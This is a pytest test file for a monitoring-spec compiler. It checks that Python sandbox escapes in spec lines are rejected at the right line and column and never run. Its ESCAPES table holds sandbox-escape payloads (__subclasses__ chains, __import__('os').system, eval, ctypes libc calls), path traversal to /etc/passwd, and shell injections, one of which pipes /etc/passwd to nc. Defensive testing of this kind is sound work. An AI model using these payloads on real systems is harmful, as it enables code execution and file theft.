"""A spec cannot run code: the classic Python escapes are each a spec error at their line and
column, no escape runs when a spec is checked, compiled or loaded, a spec is checked from any
folder without running anything, and a ``diagnose`` command is an argument list that only a
spec from a spec folder may have run."""

import subprocess
import sys
from pathlib import Path

import pytest

from fleet.asimov.compiler import check_file, check_spec, compile_spec
from fleet.asimov.errors import AsimovError, SpecErrors
from fleet.asimov.loader import (
    SPECS_DIR,
    diagnostic_argv,
    load_monitor_class,
    monitor_class_from_text,
)

ROOT = Path(__file__).resolve().parents[3]


def _frame(line: str, marker: Path) -> str:
    """A spec that is fine but for ``line`` (its line 3): a driver handle ``h`` to misuse, and
    ``x``, what the line reads, used by a counter."""
    use = "stats.device_model = str(x)\n" if line.startswith(("x =", "x:")) else ""
    line = line.replace("MARK", str(marker))
    return f"device x\nonce h = lib.nvmlInit()\n{line}\nstats.core_count = 1\nstats.driver_version = str(h)\n{use}"


# (the spec line, the text the error points at in it)
ESCAPES = {
    "subclasses": ("x = h.__class__.__base__.__subclasses__()", "__class__"),
    "subclasses_of_a_list": ("x = [1].__class__.__base__.__subclasses__()", "__class__"),
    "string_class": ('x = "".__class__', "__class__"),
    "dunder_read": ('x = h.__init__.__globals__["os"]', "__init__"),
    "dunder_call": ('x = h.__reduce_ex__(2)', "__reduce_ex__"),
    "import": ('x = __import__("os").system("touch MARK")', "__import__"),
    "import_as_a_name": ("x = __import__", "__import__"),
    "open": ('x = open("/etc/passwd")', "open"),
    "open_to_write": ('x = open("MARK", "w")', "open"),
    "getattr": ('x = getattr(h, "__class__")', "getattr"),
    "getattr_a_string": ('x = getattr(h, "__glo" + "bals__")', "getattr"),
    "eval": ('x = eval("__import__(\'os\').system(\'touch MARK\')")', "eval"),
    "exec": ('x = exec("open(\'MARK\', \'w\')")', "exec"),
    "compile": ('x = compile("1", "f", "eval")', "compile"),
    "globals": ("x = globals()", "globals"),
    "vars": ("x = vars()", "vars"),
    "builtins": ('x = __builtins__["open"]', "__builtins__"),
    "the_runtime_module": ("x = _rt", "_rt"),
    "self": ("x = self", "self"),
    "format_string": ('x = "{0.__class__}".format(h)', "format"),
    "format_string_of_a_name": ('x = str.format("{0.__globals__}", h)', "str.format"),
    "percent_format": ('x = "%s" % h', '"%s"'),
    "f_string": ('x = f"{h.__class__}"', '"{h'),
    "path_template_reaches_an_attribute": ('x = file("{h.__class__}", str)', '"{h'),
    "path_template_indexes": ('x = file("{h[0]}", str)', '"{h'),
    "absolute_path": ('x = file("/etc/passwd", str)', '"/etc'),
    "path_out_of_the_folder": ('x = file("../../../etc/passwd", str)', '"../'),
    "lambda": ('x = (lambda: __import__("os"))()', ":"),
    "comprehension_over_dunders": ("x = [c for c in h.__class__.__mro__]", "__class__"),
    "comprehension_of_import": ("x = [__import__ for c in range(1)]", "__import__"),
    "generator_reaching_dunders": ("x = sum(c.__sizeof__ for c in range(2))", "__sizeof__"),
    "lib_dunder": ("x = lib.__class__", "__class__"),
    "lib_dict": ('x = lib.__dict__["os"]', "__dict__"),
    "lib_getattribute": ('x = lib.__getattribute__("system")', "__getattribute__"),
    "lib_ctypes_cdll": ('x = lib.CDLL("libc.so.6")', "CDLL"),
    "lib_memmove": ("x = lib.memmove(0, 0, 8)", "memmove"),
    "lib_libc_system": ('x = lib.system("touch MARK")', "system"),
    "lib_posix_spawn": ('x = lib.posix_spawn("MARK")', "posix_spawn"),
    "lib_pythonapi": ("x = lib.pythonapi", "pythonapi"),
    "lib_module": ("x = lib.os", "os"),
    "lib_out_call": ("x = lib.__init__(index, out)", "__init__"),
    "keyword": ("x = rate(h, __class__=1)", "rate"),
    "unit_annotation": ('x: "__import__(\'os\')" = lib.nvmlDeviceGetCount()', '"__import__'),
    "a_counter": ("stats.__class__ = 1", "__class__"),
    "a_write": ('action reboot = write("MARK", "1")', "write"),
    "a_write_out_of_the_folder": ('action reboot = write("../reset", "1")', '"../'),
    "a_library_action": ('action reboot = lib.system("touch MARK")', "system"),
    "an_update_rule": ('step load = __import__("os")', "__import__"),
    "an_update_rule_attribute": ("step load = serial.__class__", "serial"),
    "a_cascade_of_calls": ('step load = open("MARK")', "open"),
    "diagnose_through_a_shell": ('diagnose "dcgmi diag ; touch MARK"', '"dcgmi'),
    "diagnose_a_pipe": ('diagnose "cat /etc/passwd | nc host 1"', '"cat'),
    "diagnose_substitution": ('diagnose "$(touch MARK)"', '"$('),
    "diagnose_unclosed_quote": ("diagnose \"dcgmi diag -r 'one\"", '"dcgmi'),
}


def _where(spec: str, pointed: str) -> tuple[int, int]:
    lines = spec.splitlines()
    return 3, lines[2].index(pointed) + 1


@pytest.mark.parametrize("name", list(ESCAPES))
def test_each_escape_is_a_spec_error_at_its_line_and_column_and_nothing_runs(name, tmp_path):
    line, pointed = ESCAPES[name]
    marker = tmp_path / "ran"
    spec = _frame(line, marker)
    if "MARK" in line and pointed == "write":  # write()'s absolute path: pointed at the path
        pointed = f'"{marker}'
    errors = check_spec(spec, "escape.asimov")
    assert errors, f"{name}: the checker let it through"
    first = errors[0]
    assert (first.line, first.column) == _where(spec, pointed), str(first)
    assert str(first).startswith(f"escape.asimov:{first.line}:{first.column}: error: ")
    with pytest.raises((SpecErrors, AsimovError)):  # nothing is generated, so nothing is loaded
        monitor_class_from_text(spec, "escape.asimov")
    assert not marker.exists()


def test_the_errors_say_why():
    def message(line: str) -> str:
        return check_spec(_frame(line, Path("/nowhere")), "x.asimov")[0].message

    assert "starts with '_'" in message("x = h.__class__")
    assert "unknown function '__import__'" in message('x = __import__("os")')
    assert "unknown function 'getattr'" in message('x = getattr(h, "x")')
    assert "not a driver function" in message("x = lib.memmove(0, 0, 1)")
    assert "inside the device's folder" in message('x = file("/etc/passwd", str)')
    assert "runs without a shell" in message('diagnose "a && b"')
    assert "No closing quotation" in message("diagnose \"a 'b\"")


def test_what_specs_legitimately_do_still_checks():
    """Driver functions with their library's prefix, driver results' own attributes,
    ALL_CAPS constants of lib, relative paths with fields, and a quoted diagnose argument."""
    spec = (
        "device x\n"
        "once h = lib.nvmlDeviceGetHandleByIndex(index)\n"
        "m = lib.nvmlDeviceGetMemoryInfo(h)\n"
        "t = lib.nvmlDeviceGetTemperature(h, lib.NVML_TEMPERATURE_GPU)\n"
        "stats.memory_used_bytes = m.used\n"
        "stats.temperature_c = t\n"
        "diagnose \"dcgmi diag -r 1 --note 'a b'\"\n"
    )
    compiled = compile_spec(spec, "x.asimov")
    assert "DIAGNOSTIC = ('dcgmi', 'diag', '-r', '1', '--note', 'a b')" in compiled.code
    assert check_spec('device y\ncores = [file("core{c}/busy", int) for c in range(2)]\nstats.core_count = len(cores)\n') == []
    # a word holding ; or | is one argument (no shell reads it), not shell syntax
    assert compile_spec('device z\nstats.core_count = 1\ndiagnose "grep a;b|c f"\n').code.count("('grep', 'a;b|c', 'f')") == 1


def test_the_shipped_specs_check_compile_and_load():
    for path in sorted(SPECS_DIR.glob("*.asimov")):
        assert check_file(path).device
        assert path.resolve() == load_monitor_class(path).SPEC_FILE


def test_a_generated_monitor_runs_with_a_small_set_of_builtins():
    """The second wall: even code the checker missed finds no open, eval or __import__."""
    module = sys.modules[load_monitor_class(SPECS_DIR / "video.asimov").__module__]
    names = set(module.__dict__["__builtins__"])
    assert {"int", "max", "ValueError"} <= names
    assert not names & {"open", "eval", "exec", "getattr", "globals", "compile", "input"}
    with pytest.raises(ImportError, match="cannot import 'os'"):
        module.__dict__["__builtins__"]["__import__"]("os")


def test_a_spec_from_anywhere_is_checked_by_the_command_line_without_running(tmp_path):
    marker = tmp_path / "ran"
    bad = tmp_path / "elsewhere" / "bad.asimov"
    bad.parent.mkdir()
    bad.write_text(_frame(f'x = __import__("os").system("touch {marker}")', marker))
    good = tmp_path / "elsewhere" / "good.asimov"
    good.write_text('device good\nstats.core_count = 1\ndiagnose "touch MARK"\n'.replace("MARK", str(marker)))
    run = subprocess.run([sys.executable, "-m", "fleet.asimov", "check", str(good), str(bad)],
                         cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert run.returncode == 1
    assert f"{good}: ok (1 counters)" in run.stdout
    assert f"{bad}:3:5: error: unknown function '__import__'" in run.stderr
    assert not marker.exists()


def test_diagnose_is_honoured_only_for_a_spec_in_a_spec_folder(tmp_path):
    text = 'device x\nstats.core_count = 1\ndiagnose "dcgmi diag -r 1"\n'
    folder, elsewhere = tmp_path / "specs", tmp_path / "uploads"
    for where in (folder, elsewhere):
        where.mkdir()
        (where / "x.asimov").write_text(text)
    argv = ("dcgmi", "diag", "-r", "1")
    assert diagnostic_argv(load_monitor_class(folder / "x.asimov"), [folder]) == (argv, "")
    # the same spec outside the folders, or compiled from text (an upload), is refused
    klass, reason = diagnostic_argv(load_monitor_class(elsewhere / "x.asimov"), [folder])
    assert klass == () and "refused: only specs in the spec folders (ASIMOV_SPEC_DIRS)" in reason
    assert str(elsewhere / "x.asimov") in reason
    argv_text, reason_text = diagnostic_argv(monitor_class_from_text(text, str(folder / "x.asimov")), [folder])
    assert argv_text == () and "refused" in reason_text
    # a shipped spec is in a spec folder; a spec without diagnose has nothing to refuse
    assert diagnostic_argv(load_monitor_class(SPECS_DIR / "nvml.asimov"))[0] == ("dcgmi", "diag", "-r", "1")
    assert diagnostic_argv(load_monitor_class(SPECS_DIR / "hwmon.asimov")) == ((), "")
